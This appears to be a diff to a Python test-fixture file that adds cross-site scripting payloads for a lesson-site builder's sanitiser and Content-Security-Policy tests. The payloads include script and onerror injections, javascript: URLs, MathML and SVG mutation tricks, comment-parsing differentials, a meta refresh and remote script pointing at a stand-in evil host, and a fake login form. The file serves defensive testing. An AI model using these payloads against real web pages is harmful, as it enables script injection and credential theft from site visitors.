@@ -27,9 +27,16 @@ class Payload:
 
     id: str
     family: str
-    place: str  # body | title | description | subtitle | status | track | quiz | caption | notebook | file
+    # body | title | description | subtitle | status | track | quiz | caption | notebook | file; issue 24:
+    # summary | takeaways (front matter rendered as Markdown), page (a page outside any track, titled by its
+    # heading), filename (a page outside any track whose file name is the text), notebook-heading (a
+    # notebook's first heading) and injected (written into a built page's <body> after the build, as if the
+    # sanitiser had failed: the Content-Security-Policy alone must stop it)
+    place: str
     text: str
-    message: str  # words the check's problem for this lesson must contain
+    # Words the check's problem for this lesson must contain; None: the check may stay silent (the text is
+    # shown as text, which a strict build accepts), and the page must be inert all the same.
+    message: str | None
     outcome: str = "inert"  # or "refused"
 
     def code(self) -> str:
@@ -43,6 +50,261 @@ SCHEME = "javascript: scheme"
 LOAD = "loads from another host"
 ATTRIBUTE = "not an attribute lessons may use"
 PLAIN = "is plain text"
+
+MATH = "not allowed in formulas"
+NAME = "characters other than letters"  # a file name: refused before MkDocs reads it (untrusted-files)
+OVERLAY = "position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999"
+
+ISSUE_24_FORMULAS: tuple[Payload, ...] = (
+    Payload("math-text-script", "formula: \\text", "body", "$\\text{<script>CANARY</script>}$", TAG),
+    Payload("math-text-img", "formula: \\text", "body", "$\\text{<img src=x onerror=CANARY>}$", HANDLER),
+    Payload(
+        "math-text-meta",
+        "formula: \\text",
+        "body",
+        '$$\\text{<meta http-equiv="refresh" content="0;url=EVIL/">}$$',
+        TAG,
+    ),
+    Payload(
+        "math-text-form",
+        "formula: \\text",
+        "body",
+        '$\\text{<form action="EVIL/"><input type="password" name="p"><button>Log in</button></form>}$',
+        TAG,
+    ),
+    Payload(
+        "math-text-entities", "formula: \\text", "body", "$\\text{&lt;img src=x onerror=CANARY&gt;}$", None
+    ),
+    Payload("math-style-overlay", "formula: \\style", "body", f"$\\style{{{OVERLAY}}}{{x}}$", MATH),
+    Payload(
+        "math-style-display",
+        "formula: \\style",
+        "body",
+        f"$$\\style{{{OVERLAY}}}{{\\frac{{a}}{{b}}}}$$",
+        MATH,
+    ),
+    Payload("math-href-script", "formula: \\href", "body", "$\\href{javascript:CANARY}{x}$", MATH),
+    Payload("math-href-evil", "formula: \\href", "body", "$\\href{EVIL/}{\\text{log in}}$", MATH),
+    Payload("math-class", "formula: \\class", "body", "$\\class{md-header md-header--shadow}{x}$", MATH),
+    Payload("math-unicode", "formula: \\unicode", "body", "$\\unicode{x3C}script\\unicode{x3E}$", None),
+    Payload(
+        "math-operatorname",
+        "formula: \\operatorname",
+        "body",
+        "$\\operatorname{<img src=x onerror=CANARY>}$",
+        HANDLER,
+    ),
+    Payload("math-mathrm-svg", "formula: \\mathrm", "body", "$\\mathrm{<svg onload=CANARY>}$", TAG),
+    Payload(
+        "mathml-mtext-script",
+        "MathML injection",
+        "body",
+        "<math><mtext><script>CANARY</script></mtext></math>",
+        TAG,
+    ),
+    Payload(
+        "mathml-annotation-xml",
+        "MathML injection",
+        "body",
+        '<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=CANARY>'
+        "</annotation-xml></semantics></math>",
+        TAG,
+    ),
+    Payload(
+        "mathml-mglyph-mxss",
+        "MathML injection",
+        "body",
+        "<math><mtext><table><mglyph><style><img src=x onerror=CANARY></style></mglyph></table>"
+        "</mtext></math>",
+        TAG,
+    ),
+    Payload(
+        "math-summary", "formula in a summary", "summary", "$\\text{<img src=x onerror=CANARY>}$", HANDLER
+    ),
+    Payload("math-summary-style", "formula in a summary", "summary", f"$\\style{{{OVERLAY}}}{{x}}$", MATH),
+    Payload("math-takeaway", "formula in a takeaway", "takeaways", "$\\text{<script>CANARY</script>}$", TAG),
+    Payload("math-takeaway-href", "formula in a takeaway", "takeaways", "$\\href{EVIL/}{x}$", MATH),
+)
+
+ISSUE_24_PARSER_DIFFERENTIALS: tuple[Payload, ...] = (
+    Payload("comment-abrupt", "comment <!-->", "body", '<!--><img src=x onerror="CANARY">-->', HANDLER),
+    Payload(
+        "comment-abrupt-dash", "comment <!--->", "body", '<!---><img src=x onerror="CANARY">-->', HANDLER
+    ),
+    Payload("comment-bang", "comment --!>", "body", '<!-- a --!><img src=x onerror="CANARY">-->', HANDLER),
+    Payload("cdata", "CDATA in HTML", "body", '<![CDATA[><img src=x onerror="CANARY">]]>', HANDLER),
+    Payload("processing-instruction", "<?...>", "body", '<?x ><img src=x onerror="CANARY">?>', HANDLER),
+    Payload(
+        "code-span-paragraphs",
+        "code span across paragraphs",
+        "body",
+        '`a\n\n<img src=x onerror="CANARY">\n\nb`',
+        HANDLER,
+    ),
+    Payload(
+        "unclosed-fence", "unclosed fence", "body", 'Text.\n\n```\n<img src=x onerror="CANARY">\n', HANDLER
+    ),
+    Payload(
+        "svg-style-mxss",
+        "mutation XSS (svg style)",
+        "body",
+        '<svg><style><img src=x onerror="CANARY"></style></svg>',
+        TAG,
+    ),
+)
+
+ISSUE_24_TITLES: tuple[Payload, ...] = (
+    Payload("heading-title", "page titled by its heading", "page", '# <img src=x onerror="CANARY">', HANDLER),
+    Payload(
+        "heading-entities",
+        "page titled by its heading",
+        "page",
+        "# &lt;/title&gt;&lt;script&gt;CANARY&lt;/script&gt;",
+        None,
+    ),
+    Payload(
+        "filename-title", "file name as a title", "filename", '<img src=x onerror="CANARY">', NAME, "refused"
+    ),
+    Payload(
+        "filename-entities", "file name as a title", "filename", "&lt;svg onload=CANARY&gt;", NAME, "refused"
+    ),
+    Payload(
+        "filename-quote",
+        "file name in an attribute",
+        "filename",
+        'x" onmouseover="CANARY" y="',
+        NAME,
+        "refused",
+    ),
+    Payload("notebook-heading", "notebook heading", "notebook-heading", '<img src=x onerror="CANARY">', None),
+    Payload(
+        "notebook-heading-entities",
+        "notebook heading",
+        "notebook-heading",
+        "&lt;/title&gt;&lt;script&gt;CANARY&lt;/script&gt;",
+        None,
+    ),
+    Payload("summary-html", "summary on the home page", "summary", '<img src=x onerror="CANARY">', HANDLER),
+    Payload(
+        "summary-meta",
+        "summary on the home page",
+        "summary",
+        '<meta http-equiv="refresh" content="0;url=EVIL/">',
+        TAG,
+    ),
+    Payload(
+        "summary-entities", "summary on the home page", "summary", '&lt;img src=x onerror="CANARY"&gt;', None
+    ),
+    Payload("takeaway-html", "takeaway", "takeaways", '<img src=x onerror="CANARY">', HANDLER),
+    Payload("takeaway-entities", "takeaway", "takeaways", "&lt;script&gt;CANARY&lt;/script&gt;", None),
+    Payload(
+        "title-entities",
+        "front-matter title decoded twice",
+        "title",
+        "&lt;/title&gt;&lt;script&gt;CANARY",
+        None,
+    ),
+    Payload(
+        "track-entities",
+        "tracks.yml title decoded twice",
+        "track",
+        '&lt;img src=x onerror="CANARY"&gt;',
+        None,
+    ),
+)
+
+ISSUE_24_POLICY: tuple[Payload, ...] = (
+    Payload("csp-inline-script", "script past the sanitiser", "injected", "<script>CANARY</script>", None),
+    Payload(
+        "csp-theme-lookalike",
+        "hash collision attempt: a theme script with a call added",
+        "injected",
+        '<script>__md_scope=new URL(".",location);CANARY</script>',
+        None,
+    ),
+    Payload("csp-handler", "handler past the sanitiser", "injected", "<img src=x onerror=CANARY>", None),
+    Payload(
+        "csp-js-url",
+        "javascript: URL past the sanitiser",
+        "injected",
+        '<a id="rp-x" href="javascript:CANARY">x</a>',
+        None,
+    ),
+    Payload(
+        "csp-srcdoc",
+        "srcdoc past the sanitiser",
+        "injected",
+        '<iframe srcdoc="<script>parent.CANARY</script>"></iframe>',
+        None,
+    ),
+    Payload(
+        "csp-foreign-object",
+        "SVG foreignObject past the sanitiser",
+        "injected",
+        "<svg><foreignObject><img src=x onerror=CANARY></foreignObject></svg>",
+        None,
+    ),
+    Payload(
+        "csp-base",
+        "<base> past the sanitiser",
+        "injected",
+        '<base href="EVIL/"><script src="x.js"></script>',
+        None,
+    ),
+    Payload(
+        "csp-meta-policy",
+        "<meta> policy past the sanitiser",
+        "injected",
+        '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">'
+        "<script>CANARY</script>",
+        None,
+    ),
+    Payload(
+        "csp-remote-script",
+        "remote script past the sanitiser",
+        "injected",
+        '<script src="EVIL/x.js"></script>',
+        None,
+    ),
+    Payload(
+        "meta-policy",
+        "<meta http-equiv> in a lesson",
+        "body",
+        '<meta http-equiv="Content-Security-Policy" content="script-src *">',
+        TAG,
+    ),
+    Payload("base-target", "<base> in a lesson", "body", '<base target="_top" href="//evil.example/">', TAG),
+    Payload(
+        "srcdoc-entities",
+        "srcdoc with entities",
+        "body",
+        '<iframe srcdoc="&lt;script&gt;parent.CANARY&lt;/script&gt;"></iframe>',
+        TAG,
+    ),
+    Payload(
+        "foreign-object",
+        "SVG foreignObject",
+        "body",
+        '<svg><foreignObject><iframe srcdoc="<script>CANARY</script>"></iframe></foreignObject></svg>',
+        TAG,
+    ),
+    Payload(
+        "animate-href",
+        "SVG animate href",
+        "body",
+        '<svg><a><animate attributeName="href" to="javascript:CANARY" begin="0s"/>'
+        '<text y="20">x</text></a></svg>',
+        TAG,
+    ),
+    Payload(
+        "set-href",
+        "SVG set href",
+        "body",
+        '<svg><a><set attributeName="href" to="EVIL/"/><text y="20">x</text></a></svg>',
+        TAG,
+    ),
+    Payload("script-nonce", "script with a guessed nonce", "body", '<script nonce="rp">CANARY</script>', TAG),
+)
 
 PAYLOADS: tuple[Payload, ...] = (
     # --- issue 15: front matter and tracks printed into <head> and the navigation
@@ -294,6 +556,14 @@ PAYLOADS: tuple[Payload, ...] = (
     Payload("non-utf8", "non-UTF-8 lesson", "file", "", "not UTF-8", "refused"),
     Payload("bom", "byte-order mark", "file", "", "byte-order mark", "refused"),
     Payload("oversized", "lesson over the size limit", "file", "", "at most", "refused"),
+    # --- issue 24, family 1: formulas (the converter's output went into the page unsanitised)
+    *ISSUE_24_FORMULAS,
+    # --- issue 24, family 1: where Python's HTML parser, Markdown and Chromium disagree
+    *ISSUE_24_PARSER_DIFFERENTIALS,
+    # --- issue 24, family 2: titles, summaries, takeaways and file names decoded twice
+    *ISSUE_24_TITLES,
+    # --- issue 24, family 3: what only the Content-Security-Policy can stop
+    *ISSUE_24_POLICY,
 )
 
 REFUSED_FILES: dict[str, str] = {
@@ -308,8 +578,14 @@ REFUSED_FILES: dict[str, str] = {
 }
 
 
+# A file name that would become a page's title and address: refused by name, so never titled.
+REFUSED_FILES.update({p.id: f"pages/{p.code()}.md" for p in PAYLOADS if p.place == "filename"})
+
+
 def refused_file_bytes(payload: Payload) -> bytes:
     """The content of a payload that is a file of its own."""
+    if payload.place == "filename":
+        return b"A page with no heading.\n"
     front = "---\ntitle: T\nsummary: S.\ntrack: corpus\norder: 900\ntakeaways: [One.]\n---\n"
     if payload.id == "yaml-alias-bomb":
         levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
